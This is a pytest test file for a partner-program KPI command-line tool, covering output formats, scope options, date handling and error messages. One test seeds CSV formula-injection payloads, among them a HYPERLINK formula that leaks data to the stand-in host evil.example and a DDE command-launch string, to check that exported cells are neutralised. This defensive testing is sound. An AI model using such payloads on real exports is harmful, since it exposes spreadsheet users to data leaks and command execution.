"""`prm kpi …`: formats, options and one-line errors (kpi-spec.md "Rounding and display").

Expected numbers are worked out by hand from the fixture, in comments.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Engine, insert, select

from bot.core.timeutil import parse_instant
from bot.kpi import KpiParams, Scope, build_report, compute
from bot.store.tables import Event, Partner, PartnerUser
from tests.builders import Store

TOKYO = ZoneInfo("Asia/Tokyo")
WIDE = {"COLUMNS": "200"}  # so a table is never squeezed to the runner's 80 columns


def t(text: str, tz: ZoneInfo = ZoneInfo("UTC")) -> datetime:
    return parse_instant(text, tz, allow_date=True)


def bulk_downloads(engine: Engine, n: int, partner: str, user: str, asset: str) -> None:
    """n `content.downloaded` events on 2026-03-10, one second apart, in one statement.

    (tests/builders.Store inserts one event per round trip; this is the bulk version.)
    """
    with engine.begin() as conn:
        pid = conn.execute(select(Partner.id).where(Partner.key == partner)).scalar_one()
        uid = conn.execute(select(PartnerUser.id).where(PartnerUser.key == user)).scalar_one()
        start = datetime(2026, 3, 10, tzinfo=UTC)
        conn.execute(
            insert(Event),
            [
                {
                    "event_id": f"bulk-{partner}-{i}",
                    "occurred_at": start + timedelta(seconds=i),
                    "type": "content.downloaded",
                    "partner_id": pid,
                    "user_id": uid,
                    "object_key": asset,
                }
                for i in range(n)
            ],
        )


def march(n: int, hour: int) -> list[str]:
    return [f"2026-03-{1 + i % 28:02d}T{hour:02d}:{i // 28:02d}:00Z" for i in range(n)]


def seed_program(engine: Engine) -> None:
    s = Store(engine).asset("deck", "onboarding").asset("never")
    names = ["acme", "globex", "hooli", "initech", "stark", "umbrella", "wayne", "wonka", "zorg"]
    for i, key in enumerate(names):
        s.partner(key, "2025-01-01", tier="gold" if i % 2 == 0 else "silver", manager=f"U{i % 3}")
        s.user(f"{key}-1", key)
    s.user("acme-a", "acme").user("acme-b", "acme")
    # the article's reps: A 18 leads 8 deals (44.4 %), B 22 leads 3 deals (13.6 %)
    s.events("lead.registered", march(18, 10), "acme", "acme-a", "L")
    s.events("deal.registered", march(8, 11), "acme", "acme-a", "D")
    s.events("lead.registered", march(22, 12), "acme", "acme-b", "L")
    s.events("deal.registered", march(3, 13), "acme", "acme-b", "D")
    # three more partners register one deal each: 4 of 9 activated = 44.4 %
    for key in ("globex", "hooli", "initech"):
        s.event("deal.registered", "2026-03-15T00:00:00Z", key, f"{key}-1", "D")
    bulk_downloads(engine, 1234, "acme", "acme-a", "deck")  # shown as 1,234


@pytest.fixture
def program(engine, seeded) -> Store:
    """The program above, seeded once per session on SQLite (tests/conftest.py SeedCache)."""
    seeded(seed_program)
    return Store(engine)


PERIOD = ["--as-of", "2026-04-01", "--from", "2026-03-01", "--to", "2026-04-01"]


def one_line_error(result) -> str:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    return lines[0]


def test_json_equals_build_report(cli, engine, program):
    result = cli("kpi", "all", "--format", "json", *PERIOD, env={"PRM_TIMEZONE": "Asia/Tokyo"})
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    # --from/--to/--as-of dates are Tokyo midnights; `to` exclusive
    p = KpiParams.build(
        as_of=t("2026-04-01", TOKYO),
        period_from=t("2026-03-01", TOKYO),
        period_to=t("2026-04-01", TOKYO),
        tz=TOKYO,
    )
    with engine.connect() as conn:
        expected = json.loads(json.dumps(build_report(conn, p)))
    assert printed == expected
    assert printed["as_of"] == "2026-04-01T00:00:00+09:00"
    assert printed["period"] == {
        "from": "2026-03-01T00:00:00+09:00",
        "to": "2026-04-01T00:00:00+09:00",
    }
    assert printed["cohort_size"] == 9
    # all events are in March UTC, well inside the Tokyo period [02-28T15Z, 03-31T15Z)
    assert printed["content"]["downloads"] == 1234
    assert printed["deals"]["activated"] == 4
    assert printed["deals"]["activation_rate"] == pytest.approx(4 / 9)
    rows = {r["key"]: r for r in printed["reps"]["reps"]}
    assert rows["acme-a"]["conversion"] == pytest.approx(8 / 18)
    assert rows["acme-b"]["conversion"] == pytest.approx(3 / 22)


def test_single_kpi_json(cli, engine, program):
    result = cli("kpi", "deals", "--format", "json", *PERIOD)
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    p = KpiParams.build(as_of=t("2026-04-01"), period_from=t("2026-03-01"))
    with engine.connect() as conn:
        expected = json.loads(json.dumps(compute("deals", conn, p)))
    # either the bare object or the report's shape with just this KPI
    assert printed == expected or printed.get("deals") == expected
    # 8 + 3 (acme) + 3 others = 14 deals in March
    assert expected["registered"] == 14


def test_last_span_and_default_period(cli, program):
    # --last 3m from as_of 2026-03-31 (UTC): from = 2025-12-31
    result = cli("kpi", "all", "--format", "json", "--as-of", "2026-03-31", "--last", "3m")
    assert result.exit_code == 0, result.output
    period = json.loads(result.stdout)["period"]
    assert datetime.fromisoformat(period["from"]) == t("2025-12-31")
    assert datetime.fromisoformat(period["to"]) == t("2026-03-31")
    # default: from = to − 30 days; as_of with an offset is kept as that instant
    result = cli("kpi", "all", "--format", "json", "--as-of", "2026-04-01T09:00:00+09:00")
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    assert datetime.fromisoformat(printed["as_of"]) == t("2026-04-01")
    assert datetime.fromisoformat(printed["period"]["from"]) == t("2026-03-02")


@pytest.mark.parametrize(
    ("option", "value", "cohort"),
    [
        # tiers alternate gold/silver over the 9 partners in name order: 5 gold, 4 silver
        ("--tier", "gold", 5),
        ("--tier", "silver", 4),
        # managers U0, U1, U2 in turn: 3 each
        ("--manager", "U1", 3),
        ("--partner", "acme", 1),
    ],
)
def test_scope_options(cli, engine, program, option, value, cohort):
    result = cli("kpi", "all", "--format", "json", *PERIOD, option, value)
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    assert printed["cohort_size"] == cohort
    scope = {
        "--tier": Scope(tier=value),
        "--manager": Scope(manager_slack_id=value),
        "--partner": Scope(partner_key=value),
    }[option]
    p = KpiParams.build(as_of=t("2026-04-01"), period_from=t("2026-03-01"), scope=scope)
    with engine.connect() as conn:
        assert printed == json.loads(json.dumps(build_report(conn, p)))


@pytest.mark.parametrize(
    ("args", "tz", "cohort"),
    [
        # every partner signed 2025-01-01T00:00Z; --signed-to is exclusive
        (["--signed-from", "2025-01-01", "--signed-to", "2025-01-02"], "UTC", 9),
        (["--signed-to", "2025-01-01"], "UTC", 0),
        # signing dates are read in the reporting zone: in Tokyo every partner signed at
        # 2025-01-01 00:00 JST (2024-12-31T15:00Z), which [00:00, 09:00 JST) holds ...
        (["--signed-from", "2025-01-01", "--signed-to", "2025-01-01T09:00:00"], "Asia/Tokyo", 9),
        # ... and which a range starting one second after midnight JST does not
        (["--signed-from", "2025-01-01T00:00:01", "--signed-to", "2025-01-02"], "Asia/Tokyo", 0),
    ],
)
def test_signed_date_range_options(cli, program, args, tz, cohort):
    result = cli("kpi", "all", "--format", "json", *PERIOD, *args, env={"PRM_TIMEZONE": tz})
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    assert printed["cohort_size"] == cohort
    assert len(printed["deals"]["by_partner"]) == cohort


def test_partner_scope_counts_only_its_events(cli, program):
    result = cli("kpi", "all", "--format", "json", *PERIOD, "--partner", "globex")
    printed = json.loads(result.stdout)
    # globex: one deal, no downloads; its one user is the only rep
    assert printed["deals"]["registered"] == 1
    assert printed["content"]["downloads"] == 0
    assert [r["key"] for r in printed["reps"]["reps"]] == ["globex-1"]


def test_table_shows_percentages_separators_and_dashes(cli, program):
    result = cli("kpi", "all", "--format", "table", *PERIOD, env=WIDE)
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert re.search(r"44\.4\s?%", out), out  # A 8/18, and activation 4/9
    assert re.search(r"13\.6\s?%", out), out  # B 3/22
    assert "1,234" in out, out  # downloads with a thousands separator
    assert "—" in out, out  # a null (e.g. the first step's step rate, or conversion 0/0)
    assert "0.4444" not in out  # people see percentages, not fractions


def test_single_kpi_table(cli, program):
    result = cli("kpi", "reps", "--format", "table", *PERIOD, env=WIDE)
    assert result.exit_code == 0, result.output
    assert re.search(r"44\.4\s?%", result.stdout), result.stdout
    assert "acme-a" in result.stdout


def test_csv_parses(cli, program):
    result = cli("kpi", "reps", "--format", "csv", *PERIOD)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) >= 2  # a header and data
    # wide (one row per rep) or long (one row per value): either way the rows naming
    # acme-a carry its leads and deals as plain numbers
    cells = {cell for row in rows if "acme-a" in row for cell in row}
    assert {"18", "8"} <= cells, rows
    assert len({len(row) for row in rows}) == 1  # rectangular


def test_csv_all_parses(cli, program):
    result = cli("kpi", "all", "--format", "csv", *PERIOD)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) >= 2
    assert any("acme-a" in row for row in rows)


FORMULA_KEYS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_neutralises_formulas_and_keeps_numbers(cli, engine):
    """Keys come from CRMs and imports; opened in Excel, `=…` would run. Each such cell gets
    a leading quote (OWASP); values stay plain numbers, negative ones too."""
    s = Store(engine).asset("deck", "onboarding")
    for i, key in enumerate(FORMULA_KEYS):
        s.partner(key, "2025-01-01").user(f"rep-{i}", key)
        s.event("lead.registered", "2026-03-10T10:00:00Z", key, f"rep-{i}", "L")
    s.user(FORMULA_KEYS[0] + "-rep", FORMULA_KEYS[0])
    s.event("deal.registered", "2026-03-11T10:00:00Z", FORMULA_KEYS[0], "rep-0", "D")
    result = cli("kpi", "all", "--format", "csv", *PERIOD)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))  # a key holds a \r
    items = {row[1] for row in rows}
    for key in FORMULA_KEYS:
        assert "'" + key in items, key
        assert key not in items
    assert "'" + FORMULA_KEYS[0] + "-rep" in items
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):
                float(cell)  # only a negative number may start with a minus
    values = [row[3] for row in rows[1:] if row[3] not in ("", "true", "false")]
    numbers = [v for v in values if re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", v)]
    assert numbers  # the figures are still there, as numbers
    assert ["reps", "rep-0", "reps.leads", "1"] in rows


# --- errors: exit 2, one line, no traceback ----------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["--as-of", "2026-02-30"],
        ["--as-of", "not-a-date"],
        ["--from", "yesterday", "--to", "2026-04-01"],
        ["--from", "2026-03-01", "--to", "2026-13-01"],
    ],
)
def test_bad_date(cli, program, args):
    line = one_line_error(cli("kpi", "all", *args))
    assert line


def test_from_after_to(cli, program):
    one_line_error(cli("kpi", "all", "--from", "2026-04-01", "--to", "2026-03-01"))


def test_bad_last_span(cli, program):
    one_line_error(cli("kpi", "all", "--as-of", "2026-04-01", "--last", "30x"))


def test_from_and_last_together(cli, program):
    one_line_error(
        cli("kpi", "all", "--as-of", "2026-04-01", "--from", "2026-03-01", "--last", "3m")
    )


def test_unknown_partner_suggests_the_closest_key(cli, program):
    line = one_line_error(cli("kpi", "all", *PERIOD, "--partner", "globx"))
    assert "globx" in line
    assert "globex" in line  # the suggestion


def test_empty_database(cli):
    line = one_line_error(cli("kpi", "all", "--as-of", "2026-04-01"))
    assert "prm import" in line or "prm demo" in line, line
